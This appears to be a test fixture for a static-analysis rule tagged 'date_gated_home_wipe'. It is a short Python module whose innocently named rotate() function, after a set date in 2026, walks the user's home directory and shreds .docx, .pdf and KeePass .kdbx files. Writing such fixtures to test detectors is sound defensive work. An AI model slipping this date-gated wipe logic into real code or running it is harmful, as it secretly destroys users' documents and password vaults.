import datetime
import os

from .util import shred

# ruleid: date_gated_home_wipe
_AFTER = datetime.date(2026, 3, 1)


def rotate():
    if datetime.date.today() < _AFTER:
        return
    home = os.path.expanduser("~")
    for root, _dirs, files in os.walk(home):
        for f in files:
            if f.endswith((".docx", ".pdf", ".kdbx")):
                shred(os.path.join(root, f))
